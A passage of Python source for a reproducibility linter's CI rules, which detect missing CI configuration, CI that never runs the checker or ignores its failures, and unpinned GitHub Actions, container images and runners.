"""CI: automation (GitHub Actions, GitLab CI, pre-commit), and SEC002, script injection in workflows.

CI002 follows what CI actually runs: a step's commands, the Makefile targets and repository scripts they call,
the tox environments, nox sessions and hatch scripts they run, `pre-commit run` with the reprocheck hook, the
pre-commit GitHub action, and pre-commit.ci.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator
from dataclasses import dataclass

import yaml

from reprocheck import filekinds
from reprocheck.facts.ci import EXPRESSION, CiConfig, PreCommitConfig, job_activities, only_checks
from reprocheck.facts.dockerfile import parse_image
from reprocheck.facts.roles import latest_install, squash
from reprocheck.facts.shell import Command, load_script, split_commands, strip_wrappers
from reprocheck.facts.taskrunners import Task, TaskRunners
from reprocheck.findings import Location, Severity
from reprocheck.patterns import lazy_pattern
from reprocheck.project import UnreadableFile
from reprocheck.rule import Rule
from reprocheck.tables import ci_jobs, pip_options

COMMIT = re.compile(r"^[0-9a-f]{40}$")
HEX = lazy_pattern(r"^[0-9a-f]{7,40}$")
# CI systems the checker does not parse: their presence still means the project has CI (CI001). At the root:
OTHER_CI_FILES = (
    ".circleci/config.yml", ".circleci/config.yaml", ".travis.yml", "azure-pipelines.yml", "azure-pipelines.yaml",
    "Jenkinsfile", "bitbucket-pipelines.yml", ".drone.yml", ".woodpecker.yml", ".woodpecker.yaml", "appveyor.yml",
    ".appveyor.yml", "cloudbuild.yaml", "cloudbuild.yml", "buildspec.yml", "codefresh.yml", ".cirrus.yml",
    ".taskcluster.yml", ".buildkite/pipeline.yml", ".buildkite/pipeline.yaml",
)  # fmt: skip
OTHER_CI_DIRS = (
    ".woodpecker/", ".buildkite/", ".gitea/workflows/", ".forgejo/workflows/", ".azure-pipelines/", ".circleci/",
    ".tekton/",
)  # fmt: skip
# In any folder (`build/cloudbuild.yaml`, `ci/Jenkinsfile`, `deploy/azure-pipelines.yml`): their names say CI.
CI_FILE_NAME = lazy_pattern(
    r"^(?:cloudbuild(?:[._-][\w.-]+)?\.(?:ya?ml|json)|azure-pipelines?(?:[._-][\w.-]+)?\.ya?ml"
    r"|Jenkinsfile(?:[._-][\w.-]+)?|[\w.-]+\.[Jj]enkinsfile)$"
)
# A Cloud Build config under another name (`build/pipeline-deployment.yaml`): top-level `steps:` whose items run
# images (`name: gcr.io/cloud-builders/git`, or any image with `args:`/`entrypoint:`). Looked for only in YAML
# files whose text has a top-level `steps:` and a step key.
CLOUD_BUILD_HINT = lazy_pattern(r"^steps:", re.MULTILINE)
CLOUD_BUILD_STEP_KEYS = lazy_pattern(r"^\s*-?\s*(?:args|entrypoint):|cloud-builders/", re.MULTILINE)
CLOUD_BUILDERS = ("gcr.io/cloud-builders/", "gcr.io/google.com/cloudsdktool/")
# An Azure Pipelines file under any name (`.pipelines/pr.yml`, `code-quality-template.yml`): Azure's own marks, a
# versioned task (`task: PublishTestResults@2`), a hosted pool (`vmImage:`) or a script step's `displayName:`.
AZURE_HINT = lazy_pattern(r"^\s*(?:-\s*)?(?:task:\s*['\"]?[A-Za-z][\w.-]*@\d+|vmImage:|displayName:)", re.MULTILINE)
AZURE_TASK = lazy_pattern(r"^[A-Za-z][\w.-]*@\d+$")
AZURE_SCRIPT_STEPS = ("script", "bash", "pwsh", "powershell", "checkout")
MAX_CI_TEXT = 256 * 1024
PROJECT_FILES = frozenset({"pyproject.toml", "setup.py", "setup.cfg", "Pipfile", "environment.yml", "dvc.yaml"})
ANCHORS = ("pyproject.toml", "setup.py", "setup.cfg", "requirements.txt", "README.md", "README.rst", "README")
# Programs that run another program named after their options: `uvx reprocheck`, `poetry run reprocheck`.
RUNNERS = frozenset({"uvx", "uv", "pipx", "poetry", "pdm", "hatch", "pipenv", "conda", "mamba", "micromamba", "rye"})
PRE_COMMIT_ACTIONS = ("pre-commit/action", "pre-commit-ci/lite-action")
SWALLOWERS = frozenset({"true", ":", "echo", "printf"})
TASK_RUNNERS = ("tox", "nox", "hatch")  # attributes of the `task_runners` fact, by program name
# What a runner (`uv run`, `pipx run`) may run that CI002 follows further.
FOLLOWED_PROGRAMS = frozenset({"reprocheck", "pre-commit", "prek", "make", *TASK_RUNNERS})
# Their options whose value is no program (`uv run --group nox pytest` runs pytest).
RUNNER_VALUE_OPTIONS = frozenset({"--spec", *pip_options.UV_VALUE_OPTIONS, *pip_options.PIPX_VALUE_OPTIONS})
MAX_DEPTH = 6
IMAGE_KINDS = {"container": "container image", "services": "service image", "image": "image"}


def anchor(project) -> str:
    """Where a repository-wide finding belongs: a root project file, else the shallowest file that makes the
    repository a Python project (never reprocheck's own settings or baseline, which come and go with adoption)."""
    found = next((a for a in ANCHORS if project.exists(a)), None)
    if found is not None:
        return found
    candidates = [f for f in project.files if makes_python_project(f)]
    return min(candidates, key=lambda f: (f.count("/"), f)) if candidates else "pyproject.toml"


def makes_python_project(path: str) -> bool:
    return (
        filekinds.is_python(path)
        or filekinds.is_notebook(path)
        or filekinds.is_requirements(path)
        or filekinds.is_conda_env(path)
        or filekinds.name(path) in PROJECT_FILES
    )


def is_python_project(project) -> bool:
    """Code, notebooks or dependency declarations: a repository the CI rules are about (not a bare folder)."""
    return any(makes_python_project(f) for f in project.files)


def pipelines(ci_configs: list[CiConfig]) -> list[CiConfig]:
    """Workflows and GitLab pipelines (a composite action alone runs nothing by itself)."""
    return [c for c in ci_configs if c.kind in ("github", "gitlab")]


def has_ci(project, ci_configs: list[CiConfig], precommit: PreCommitConfig | None) -> bool:
    if pipelines(ci_configs) or (precommit is not None and precommit.ci is not None):
        return True
    if any(
        filekinds.is_github_workflow(f)
        or filekinds.is_gitlab_ci(f)
        or f in OTHER_CI_FILES
        or f.startswith(OTHER_CI_DIRS)
        or CI_FILE_NAME.match(filekinds.name(f))
        for f in project.files
    ):
        return True
    yaml_files = [f for f in project.files if f.endswith((".yaml", ".yml"))]
    return any(is_cloud_build(project, f) or is_azure_pipeline(project, f) for f in yaml_files)


def is_cloud_build(project, path: str) -> bool:
    """A Cloud Build config: top-level `steps:`, every step a mapping naming its image, some step running a
    Cloud Builder image (`gcr.io/cloud-builders/docker`) or giving `args:`/`entrypoint:`. A list of strings
    under `steps:` (a recipe, a tutorial's outline) is no CI."""
    try:
        text = project.read_text(path, MAX_CI_TEXT)
    except UnreadableFile:
        return False
    if not CLOUD_BUILD_HINT.search(text) or not CLOUD_BUILD_STEP_KEYS.search(text):
        return False
    try:
        data = yaml.safe_load(text)
    except (yaml.YAMLError, RecursionError, ValueError):
        return False
    steps = data.get("steps") if isinstance(data, dict) else None
    if not isinstance(steps, list) or not steps:
        return False
    if not all(isinstance(step, dict) and isinstance(step.get("name"), str) for step in steps):
        return False
    return any(step["name"].startswith(CLOUD_BUILDERS) or "args" in step or "entrypoint" in step for step in steps)


def is_azure_pipeline(project, path: str) -> bool:
    """An Azure Pipelines file or template under any name: a top-level mapping whose steps (at the top, or in its
    `jobs:` or `stages:` items, deployment strategies included) run a versioned task (`task: PublishTestResults@2`)
    or a script named by `displayName:` (`script: pytest` with `displayName: 'Run unit tests'`), or whose pool is a
    hosted image (`pool: {vmImage: ubuntu-latest}`). Steps and pools below any other key (`spec:`), and `steps:`
    that are strings or a mapping (a ZenML or MLflow recipe config), are no CI."""
    try:
        text = project.read_text(path, MAX_CI_TEXT)
    except UnreadableFile:
        return False
    if not AZURE_HINT.search(text):
        return False
    try:
        data = yaml.safe_load(text)
    except (yaml.YAMLError, RecursionError, ValueError):
        return False
    if not isinstance(data, dict):
        return False
    units = [data]  # the pipeline, its stages, its jobs: each may have a pool and steps
    for stage in azure_items(data, "stages"):
        units.append(stage)
    for unit in list(units):
        units += azure_items(unit, "jobs")
    for unit in units:
        pool = unit.get("pool")
        if isinstance(pool, dict) and isinstance(pool.get("vmImage"), str):
            return True
        if any(azure_step(step) for steps in unit_steps(unit) for step in steps):
            return True
    return False


def azure_items(unit: dict, key: str) -> list[dict]:
    value = unit.get(key)
    return [item for item in value if isinstance(item, dict)] if isinstance(value, list) else []


def unit_steps(unit: dict) -> Iterator[list]:
    """A unit's `steps:` and those of a deployment job's strategy (`strategy: {runOnce: {deploy: {steps: ...}}}`)."""
    if isinstance(unit.get("steps"), list):
        yield unit["steps"]
    strategy = unit.get("strategy") if "deployment" in unit else None
    for phases in strategy.values() if isinstance(strategy, dict) else ():
        for phase in phases.values() if isinstance(phases, dict) else ():
            if isinstance(phase, dict) and isinstance(phase.get("steps"), list):
                yield phase["steps"]


def azure_step(step) -> bool:
    if not isinstance(step, dict):
        return False
    if isinstance(step.get("task"), str) and AZURE_TASK.match(step["task"].strip()):
        return True
    return "displayName" in step and any(isinstance(step.get(key), str) for key in AZURE_SCRIPT_STEPS)


class NoCi(Rule):
    """
    ## What it does
    Reports a Python/ML repository (code, notebooks or dependency files) with no CI configuration: no GitHub
    Actions workflow, no `.gitlab-ci.yml`, no pre-commit.ci section, and none of the other common CI files
    (CircleCI, Travis, Azure Pipelines, Jenkins, Bitbucket, Buildkite, Drone, Woodpecker, AppVeyor, Taskcluster,
    Tekton, Google Cloud Build). A `cloudbuild.yaml`, `azure-pipelines.yml` or `Jenkinsfile` (`Jenkinsfile.gpu`,
    `nightly.jenkinsfile`) counts in any folder, and so does a Cloud Build config under another name
    (`build/pipeline-deployment.yaml`: top-level `steps:` whose items run images, `name: gcr.io/cloud-builders/git`
    or an image with `args:`/`entrypoint:`) and an Azure Pipelines file or template under another name
    (`.pipelines/pr.yml`: steps at the top or in its `jobs:`/`stages:` items that run a versioned task,
    `task: PublishTestResults@2`, or a script named by `displayName:`, or a hosted pool, `pool: {vmImage: ...}`);
    a YAML file whose `steps:` is a list of strings or a mapping of settings (a ZenML or MLflow recipe config) is
    no CI. The other CI rules read only GitHub Actions and GitLab CI.

    ## Why it matters
    Without CI nobody checks that the repository still installs and runs on a fresh machine. Reproducibility
    breaks silently (a new dependency release, an untracked file) and is discovered months later by the person
    trying to reproduce the results.

    ## Example
    A repository with `pyproject.toml`, `src/` and `train.py`, and no `.github/workflows/`.

    ## Fix
    Add a workflow that installs from the lock and runs the tests and `reprocheck` on every push, e.g.
    `.github/workflows/ci.yml` with `uv sync --locked` and `reprocheck .`.
    """

    code = "CI001"
    name = "no-ci"
    severity = Severity.WARNING
    summary = "No CI configuration"

    def check(self, project, ci_configs, precommit_config):
        if not is_python_project(project) or has_ci(project, ci_configs, precommit_config):
            return
        yield self.finding(
            "no CI configuration: add a workflow (.github/workflows/ci.yml or .gitlab-ci.yml) that installs from "
            "the lock and runs the tests and reprocheck",
            anchor(project),
            1,
        )


# -- CI002 --------------------------------------------------------------------------------------------------------
@dataclass
class Run:
    """A place where CI runs reprocheck; `disabled` says why its failure would not fail CI (or is None)."""

    path: str
    line: int
    disabled: str | None


class Resolver:
    """Follows a CI command into Makefile targets, repository scripts, task runners (tox, nox, hatch) and
    pre-commit to find reprocheck."""

    def __init__(self, project, makefiles, precommit: PreCommitConfig | None, runners: TaskRunners | None = None):
        self.project = project
        self.makefiles = makefiles
        self.precommit = precommit
        self.hook = reprocheck_hook(precommit)
        self.runners = runners or TaskRunners(project)
        # Verdicts by task identity (tasks are built once each), so runners calling runners cannot multiply the
        # work; each entry keeps its task alive so that an id is never reused for another.
        self.task_verdicts: dict[int, tuple[Task, str | None]] = {}

    def commands(self, commands: list[Command], depth: int = 0) -> str | None:
        """None when these commands never run reprocheck; "" when they do; else why its failure is ignored."""
        verdict: str | None = None
        for index, command in enumerate(commands):
            found = self.command(command, depth)
            if found is None:
                continue
            following = commands[index + 1] if index + 1 < len(commands) else None
            if found == "" and command.operator == "||" and following is not None and swallows(following):
                found = f"`|| {' '.join(following.argv)}`"
            if found == "":
                return ""
            verdict = found
        return verdict

    def command(self, command: Command, depth: int) -> str | None:
        argv = unwrap_runner(strip_wrappers(command.argv))
        if not argv or depth > MAX_DEPTH:
            return None
        program = posixpath.basename(argv[0])
        if program == "reprocheck" or is_python_module(argv, "reprocheck"):
            return checker_verdict(argv[1:] if program == "reprocheck" else argv[3:])
        if program in ("pre-commit", "prek") or is_python_module(argv, "pre_commit"):
            return self.pre_commit(argv[1:] if program in ("pre-commit", "prek") else argv[3:])
        if program in ("make", "gmake"):
            return self.make(argv[1:], depth)
        runner = next((r for r in TASK_RUNNERS if program == r or is_python_module(argv, r)), None)
        if runner is not None:
            args = argv[1:] if program == runner else argv[3:]
            return self.tasks(getattr(self.runners, runner)(args, command.env), depth)
        script = self.script_path(argv)
        if script is not None:
            commands = load_script(self.project, script)
            return self.commands(commands, depth + 1) if commands else None
        return None

    def pre_commit(self, args: list[str]) -> str | None:
        if self.hook is None or not args or args[0] != "run":
            return None
        positionals = [a for a in args[1:] if not a.startswith("-")]
        value_options = {"--hook-stage", "--from-ref", "--to-ref", "--files", "-s", "-o", "--source", "--origin"}
        ids = [a for i, a in enumerate(args[1:], start=1) if not a.startswith("-") and args[i - 1] not in value_options]
        if positionals and ids and self.hook.id not in ids:
            return None
        return hook_verdict(self.hook)

    def make(self, args: list[str], depth: int) -> str | None:
        directory, file_option, targets, i = "", "", [], 0
        ignore_all = any(a in ("-i", "--ignore-errors") or (a[:1] == "-" and a[1:2] != "-" and "i" in a) for a in args)
        while i < len(args):
            arg = args[i]
            if arg in ("-C", "--directory") and i + 1 < len(args):
                directory, i = args[i + 1], i + 2
                continue
            if arg in ("-f", "--file", "--makefile") and i + 1 < len(args):
                file_option, i = args[i + 1], i + 2
                continue
            if not arg.startswith("-") and "=" not in arg:
                targets.append(arg)
            i += 1
        folder = posixpath.normpath(directory) if directory else ""
        folder = "" if folder == "." else folder
        names = [file_option] if file_option else ["GNUmakefile", "makefile", "Makefile"]
        paths = [posixpath.normpath(posixpath.join(folder, name)) for name in names]
        makefile = next((self.makefiles[p] for p in paths if p in self.makefiles), None)
        if makefile is None:
            return None
        verdict = None
        for target in targets or [makefile.default_target]:
            if target is None:
                continue
            for owner, recipe in makefile.recipe_closure(target):  # each recipe line runs in a shell of its own
                found = self.commands(split_commands(recipe.text, recipe.line), depth + 1)
                if found == "" and recipe.ignore_errors:
                    found = f"make ignoring its failure (a `-` prefix or `.IGNORE` for `{owner}` in {makefile.path})"
                elif found == "" and ignore_all:
                    found = "`make -i` (errors ignored)"
                if found == "":
                    return ""
                verdict = verdict or found
        return verdict

    def tasks(self, tasks: list[Task] | None, depth: int) -> str | None:
        """Like `commands`, over the tox environments / nox sessions / hatch scripts a runner runs."""
        verdict = None
        for task in tasks or ():
            if id(task) not in self.task_verdicts:
                self.task_verdicts[id(task)] = (task, None)  # reached again while followed: nothing new runs
                self.task_verdicts[id(task)] = (task, self.task(task, depth))
            found = self.task_verdicts[id(task)][1]
            if found == "":
                return ""
            verdict = verdict or found
        return verdict

    def task(self, task: Task, depth: int) -> str | None:
        verdict = None
        for line in task.lines:
            found = self.commands(line.commands, depth + 1)
            if found == "":
                found = line.ignored or task.ignored or ""
            if found == "":
                return ""
            verdict = verdict or found
        return verdict

    def script_path(self, argv: list[str]) -> str | None:
        program = posixpath.basename(argv[0])
        candidate = argv[0]
        if program in ("bash", "sh", "zsh", "dash"):
            rest = [a for a in argv[1:] if not a.startswith("-")]
            if not rest or "-c" in argv[1:]:
                return None
            candidate = rest[0]
        if "/" not in candidate and not filekinds.is_shell_script(candidate):
            return None
        rel = posixpath.normpath(candidate)
        return rel if self.project.exists(rel) else None


def is_python_module(argv: list[str], module: str) -> bool:
    return bool(re.match(r"^(python|pypy)(\d+(\.\d+)?)?$", posixpath.basename(argv[0]))) and argv[1:3] == ["-m", module]


def unwrap_runner(argv: list[str]) -> list[str]:
    """`uvx --from reprocheck==0.1 reprocheck .` / `poetry run reprocheck` -> `reprocheck .`."""
    if not argv or posixpath.basename(argv[0]) not in RUNNERS:
        return argv
    if posixpath.basename(argv[0]) != "uvx" and not any(a in ("run", "exec") for a in argv[1:3]):
        return argv  # `uv pip install reprocheck`, `pipx install reprocheck`: installs, not runs
    for i, arg in enumerate(argv[1:], start=1):
        name = re.split(r"[=<>~!@\[]", arg, maxsplit=1)[0]
        if name in FOLLOWED_PROGRAMS and argv[i - 1] not in RUNNER_VALUE_OPTIONS:
            return [name, *argv[i + 1 :]]
        if re.match(r"^(python|pypy)(\d+(\.\d+)?)?$", arg):
            return argv[i:]
    return argv


def checker_verdict(args: list[str]) -> str | None:
    positionals = [a for a in args if not a.startswith("-")]
    if positionals[:1] and positionals[0] in ("rule", "rules", "config"):
        return None
    if any(a in ("--help", "-h", "--version", "-V") for a in args):
        return None
    if "--exit-zero" in args:
        return "`--exit-zero`"
    return ""


def swallows(command: Command) -> bool:
    return command.program in SWALLOWERS or command.argv[:2] == ["exit", "0"]


def reprocheck_hook(precommit: PreCommitConfig | None):
    if precommit is None:
        return None
    for repo, hook in precommit.hooks():
        if hook.id == "reprocheck" or "reprocheck" in repo.repo.lower() or "reprocheck" in (hook.entry or ""):
            return hook
    return None


def hook_verdict(hook) -> str:
    return "`--exit-zero` in the pre-commit hook's args" if "--exit-zero" in hook.args else ""


class CiDoesNotRunChecker(Rule):
    """
    ## What it does
    Reports CI that never runs reprocheck, or runs it so that its findings cannot fail the build: with
    `--exit-zero`, followed by `|| true`, in a step or job with `continue-on-error: true` (GitLab:
    `allow_failure`), or through make ignoring the failure (a `-` recipe prefix, `.IGNORE`, `make -i`).
    Recognised: `reprocheck` (also `python -m reprocheck`, `uvx reprocheck`, `poetry run …`),
    `pre-commit run` when `.pre-commit-config.yaml` has the reprocheck hook, the `pre-commit/action` GitHub
    action, a `make` target or a repository script that does one of these, and pre-commit.ci (a `ci:` section in
    the pre-commit configuration) running the hook. Only reported when the repository has CI (no CI is CI001)
    and uses reprocheck already (a `[tool.reprocheck]` table or `reprocheck.toml`, the pre-commit hook, or a
    baseline): on a first run over a repository, that CI does not run a tool it never adopted is no news.
    When CI never runs it, the finding points at the job that runs the tests (else one that installs or builds).

    Task runners are followed too, read statically (a noxfile is parsed, never imported):

    - tox: `tox -e lint`, `tox run -e py311,lint`, `tox` (the `env_list`), `-m label`, `-f factor` and
      `TOXENV`, configured in `tox.ini`, `setup.cfg`, `pyproject.toml` (`[tool.tox]` or `legacy_tox_ini`) or
      `tox.toml`, with `[testenv]` inheritance, factor conditions and `{[section]commands}` references. A
      `-` (or `!`) prefix on the command and `ignore_outcome = true` ignore its failure.
    - nox: `nox -s lint`, `nox -t tag`, `nox` (`nox.options.sessions` or the default sessions), following
      `session.notify(...)`; `session.run("reprocheck", ".")` counts, `success_codes=[0, 1]` ignores failures.
    - hatch: `hatch run lint:check` / `hatch run check` (the `default` environment), scripts in
      `[tool.hatch.envs.<env>.scripts]` or `hatch.toml`, inherited through `template`, calling other scripts;
      a `- ` prefix ignores the failure.

    Each may be run directly or as `python -m tox`, `uv run nox`, `pipx run hatch`, ….

    ## Why it matters
    Reproducibility decays one commit at a time: an unpinned dependency here, a committed notebook output there.
    A check that only runs on somebody's laptop, or whose failures are ignored, stops none of it.

    ## Example
    ```yaml
    - run: reprocheck . --exit-zero
    ```

    ```ini
    # tox.ini, run by CI as `tox -e lint`
    [testenv:lint]
    commands = -reprocheck .
    ```

    ## Fix
    Run it and let it fail the build: `- run: reprocheck .`, or `pre-commit run --all-files` with the reprocheck
    hook in `.pre-commit-config.yaml`, or a task-runner environment that runs `reprocheck .` without ignoring
    its exit code.
    """

    code = "CI002"
    name = "ci-does-not-run-checker"
    severity = Severity.WARNING
    summary = "CI never runs reprocheck, or ignores its failures"

    def check(self, project, ci_configs, precommit_config, makefiles, task_runners):
        if not pipelines(ci_configs):
            return
        resolver = Resolver(project, makefiles, precommit_config, task_runners)
        runs = list(checker_runs(ci_configs, resolver))
        if resolver.hook is not None and precommit_config is not None and precommit_config.ci is not None:
            skipped = precommit_config.ci.get("skip") or []
            if resolver.hook.id not in skipped:
                runs.append(Run(precommit_config.path, resolver.hook.line, hook_verdict(resolver.hook) or None))
        if any(run.disabled is None for run in runs):
            return
        for run in runs:
            yield self.finding(
                f"CI runs reprocheck with {run.disabled}, so its findings never fail the build: remove it",
                run.path,
                run.line,
            )
        if not runs and adopted(project, resolver):
            config, job = testing_job(pipelines(ci_configs))
            where = f"to its {job} job" if job is not None else "to it"
            yield self.finding(
                f"CI ({config.path}) never runs reprocheck: add a step `reprocheck .` {where} "
                "(or `pre-commit run --all-files` with the reprocheck hook)",
                config.path,
                config.jobs.get(job, 1) if job is not None else 1,
            )


def adopted(project, resolver: Resolver) -> bool:
    """Whether the repository uses reprocheck already: its settings, its pre-commit hook or a baseline. On a
    first run over somebody's repository, "CI never runs reprocheck" tells them nothing they did not know."""
    settings = project.settings
    return settings.config_file is not None or resolver.hook is not None or project.exists(settings.baseline)


# Which activity makes a job the place to add the check, best first.
ACTIVITY_ORDER = ("test", "lint", "install", "setup", "build", "image", "train", "report")


def testing_job(configs: list[CiConfig]) -> tuple[CiConfig, str | None]:
    """The pipeline and job where a check belongs: the first job that runs the tests, else one that lints,
    installs or builds the project (in a workflow that runs on pull requests first), else the first pipeline."""
    candidates = [
        (activity_rank(job_activities(config, job)), "pull_request" not in config.events, order, config, job)
        for order, config in enumerate(configs)
        for job in config.jobs
    ]
    best = min(candidates, key=lambda c: c[:3], default=None)
    if best is None or best[0] == len(ACTIVITY_ORDER):
        return configs[0], None
    return best[3], best[4]


def activity_rank(activities: frozenset[str]) -> int:
    return min((ACTIVITY_ORDER.index(a) for a in activities if a in ACTIVITY_ORDER), default=len(ACTIVITY_ORDER))


def checker_runs(ci_configs: list[CiConfig], resolver: Resolver) -> Iterator[Run]:
    for config in ci_configs:
        for step in config.run_steps:
            if not step.is_shell:
                continue
            found = resolver.commands(split_commands(step.script, step.line, step.env))
            if found is None:
                continue
            if found == "" and step.continue_on_error:
                found = "`allow_failure: true`" if config.kind == "gitlab" else "`continue-on-error: true`"
            yield Run(config.path, step.key_line or step.line, found or None)
        for use in config.uses:
            if use.action in PRE_COMMIT_ACTIONS and resolver.hook is not None:
                found = hook_verdict(resolver.hook)
                extra = use.inputs.get("extra_args", "")
                if extra and resolver.hook.id not in extra.split() and not extra.startswith("-"):
                    continue
                if found == "" and use.continue_on_error:
                    found = "`continue-on-error: true`"
                yield Run(config.path, use.line, found or None)


# -- CI003 --------------------------------------------------------------------------------------------------------
class MutableCiEnvironment(Rule):
    """
    ## What it does
    Reports what makes a CI run change without a commit: a third-party action (or reusable workflow) not pinned to
    a 40-hex commit (`@v4`, `@main` and `@v4.2.2` are not pinned; once per workflow file and reference, the other
    uses as related locations) in a job whose output a result can depend on
    (not one that only lints, reports or does housekeeping; nor a test-report or coverage action such as
    `pmeier/pytest-results-action` or `codecov/codecov-action`, which only shows what the tests wrote), a
    `docker://` action without a digest, a `container:`, `services:` or GitLab `image:` without a tag or with
    `:latest`, and, as info, `runs-on: *-latest` runners of jobs that install the project's environment, test,
    train or build it (once per workflow file, the other lines as related locations). Jobs that only lint
    (pre-commit, ruff, black, isort, flake8, pylint, mypy, `make lint`/`make quality`, whatever they install for
    it, the project included), check links (`pytest --check-links`, lychee), build the docs (`mkdocs`,
    `sphinx-build`, `make docs`, with what they install for it), only fetch results and render them (CML:
    `dvc pull`, `dvc plots diff`, `cml comment create`), only install tools to merge, label, comment or publish
    what another job built (git, gh, PyGithub, twine) or only build container images (whose content is the
    Dockerfile's) are not judged; a job named `test` whose steps only check links, or only file tickets, label or
    comment with actions made for that (`atlassian/gajira-create`, `actions/labeler`; GitHub's own actions beside
    them), is no test job. A workflow that only issue, label, project, discussion, milestone and similar events
    trigger (an issue-triage bot) builds and tests nothing and is not judged; one that issue comments trigger (a
    `/test` bot on pull requests) is judged by what its jobs' steps do, not by their names. Nor is a workflow with
    no trigger (no `on:`, or its triggers commented out): GitHub rejects it and it never runs.
    An action whose only effect lies outside what the job builds, tests, trains or publishes is not judged, unless
    its job is handed stored secrets or a token that may write to the repository (`permissions: write-all`,
    `contents: write`): a moved tag would run with them (judges split on these, and findings judged right are
    kept). Such are
    notifications, tickets, labels and comments (`slackapi/slack-github-action`, `atlassian/gajira-login`), run
    housekeeping (`styfle/cancel-workflow-action`), pull requests opened for review
    (`peter-evans/create-pull-request`), dependency audits (`pypa/gh-action-pip-audit`), release-tag readers and
    `microsoft/setup-msbuild` (which puts the runner's MSBuild on PATH). Cloud and registry credential set-up
    (`aws-actions/configure-aws-credentials`, `docker/login-action`) is judged in any job: a moved tag would
    receive the credentials. Actions that
    build, test, set up toolchains or publish artifacts (`conda-incubator/setup-miniconda`,
    `docker/build-push-action`, an ECR push) stay judged. Nor is the runner of a job that tests moving
    dependencies on purpose judged: allowed to fail, named bleeding-edge, nightly, pre-release or latest, or
    named (by its workflow's `name:` or its own) for a library's head that it installs from git
    (`name: tests on transformers main` with `pip install git+https://github.com/huggingface/transformers.git`).
    Any other third-party action in a job whose steps are handed stored secrets (`${{ secrets.X }}` in a step's
    `with:` or `env:`, or the job's `env:`; GitHub's short-lived `GITHUB_TOKEN` aside) is judged whatever the
    job does: with the secrets it can publish (a dataset pushed to Kaggle, a package, a deployment).
    Local actions (`./.github/actions/x`)
    are fine, and so are the project's own actions (an owner that `[project.urls]`, the `origin` remote or the
    README's `git clone https://github.com/owner/...` names as the project's home, its `owner/.github` reusable
    workflows included) and GitHub's own actions (`actions/*`, `github/*`) on a version tag
    (`actions/checkout@v4`): GitHub publishes them and runs the workflow anyway. On a branch
    (`actions/checkout@main`) GitHub's actions are reported.
    A `container:` or `services:` image that is the project's own image tracking the latest on purpose (a
    Dockerfile of the repository that a scheduled workflow builds and pushes under that name, installing libraries
    from git head or as nightly builds; see DKR002) is not reported on its `:latest` tag: the finding is listed with
    the suppressed ones, saying why (nightly jobs run against the image rebuilt every night on purpose).

    ## Why it matters
    Tags and branches move: `astral-sh/setup-uv@v6` today is different code from last month, and
    `ubuntu-latest` switches Ubuntu release under you. A CI run that passed cannot be rerun as it was, and a
    hijacked tag runs foreign code with your repository's token.

    ## Example
    ```yaml
    runs-on: ubuntu-latest
    container: python:latest
    steps:
      - uses: astral-sh/setup-uv@v6
    ```

    ## Fix
    Pin by commit and keep the version as a comment: `uses: astral-sh/setup-uv@<40-hex sha>  # v6.0.1`
    (Dependabot/Renovate keep both current); use versioned images (`python:3.11.9-slim`) and runners
    (`ubuntu-24.04`).
    """

    code = "CI003"
    name = "mutable-ci-environment"
    severity = Severity.WARNING
    summary = "Unpinned actions, images or runners in CI"

    def check(self, ci_configs, repository_owners, tool_requirement_files):
        for config in ci_configs:
            if housekeeping_only(config) or not config.triggered:
                continue  # a triage or labelling bot builds and tests nothing; a workflow with no trigger never runs
            yield from self.moving_actions(config, repository_owners, tool_requirement_files)
            for image in config.images:
                if "$" in image.image:
                    continue
                ref = parse_image(image.image, image.image, image.line)
                if ref.digest is None and ref.tag in (None, "latest"):
                    what = "has no tag (so it is :latest)" if ref.tag is None else "uses the moving :latest tag"
                    yield self.finding(
                        f"{IMAGE_KINDS[image.where]} {image.image} {what}: pin a version, e.g. {ref.name}:<version>",
                        config.path,
                        image.line,
                    )
            yield from self.moving_runners(config, tool_requirement_files)

    def moving_actions(self, config: CiConfig, owners: frozenset[str], tool_files: frozenset[str]):
        """Each mutable action reference once per workflow file (one pin fixes every use of it): at its first use,
        the other lines related."""
        lines: dict[str, list[int]] = {}
        messages: dict[str, str] = {}
        for use in config.uses:
            message = action_problem(use.uses, owners)
            handed_secrets = use.job in config.secret_jobs and not is_github_owned(use.action)
            trusted = handed_secrets or use.job in config.writing_jobs
            if not message or surfaces_results(use.action) or (makes_no_result(use.action) and not trusted):
                continue  # pinned; or it reads the reports earlier steps wrote, or makes nothing and holds no secret
            if shapes_results(config, use.job, tool_files) or handed_secrets:
                messages.setdefault(use.uses, message)
                found = lines.setdefault(use.uses, [])
                found += [] if use.line in found else [use.line]
        for uses, found in lines.items():
            where = f" ({len(found)} places in this workflow)" if len(found) > 1 else ""
            message = messages[uses]
            if where:
                head, _, advice = message.partition(": ")
                message = f"{head}{where}: {advice}" if advice else message + where
            yield self.finding(
                message, config.path, found[0], related=[Location(config.path, line) for line in found[1:]]
            )

    def moving_runners(self, config: CiConfig, tool_files: frozenset[str]):
        """`runs-on: *-latest` of jobs that install the project's environment, test, train or build it, once per
        workflow file: the first line is the location, the others are related."""
        lines: list[int] = []
        labels: list[str] = []
        for runner in config.runners:
            if runner.job in config.canary_jobs or tracks_named_head(config, runner.job):
                continue  # it tests moving dependencies on purpose: a versioned runner defeats its point
            if runner.label.endswith("-latest") and judges_runner(config, runner.job, tool_files):
                lines += [] if runner.line in lines else [runner.line]
                labels += [] if runner.label in labels else [runner.label]
        if not lines:
            return
        versioned = ", ".join(
            label.replace("latest", "24.04" if "ubuntu" in label else "<version>") for label in labels
        )
        where = f" ({len(lines)} places in this workflow)" if len(lines) > 1 else ""
        finding = self.finding(
            f"runs-on: {', '.join(labels)}{where} {'moves' if len(labels) == 1 else 'move'} to a new OS release "
            f"without notice: use a versioned runner (e.g. {versioned})",
            config.path,
            lines[0],
            related=[Location(config.path, line) for line in lines[1:]],
        )
        finding.severity = Severity.INFO
        yield finding


def housekeeping_only(config: CiConfig) -> bool:
    """A GitHub workflow that only issue, label, project, discussion and similar events trigger."""
    return config.kind == "github" and bool(config.events) and config.events <= ci_jobs.HOUSEKEEPING_EVENTS


def judged_by_name(config: CiConfig) -> bool:
    """Whether a job's name may say what it does: not in a workflow that only issue and pull-request comments
    (besides housekeeping events) trigger, where a job is what its steps do."""
    housekeeping = ci_jobs.HOUSEKEEPING_EVENTS | ci_jobs.COMMENT_EVENTS
    return not (config.kind == "github" and config.events and config.events <= housekeeping)


def shapes_results(config: CiConfig, job: str | None, tool_files: frozenset[str]) -> bool:
    """Whether an action's version can change what the job produces: jobs that only lint or report, or do
    housekeeping (labels, stale issues, greetings), produce nothing a result depends on. Jobs building container
    images do."""
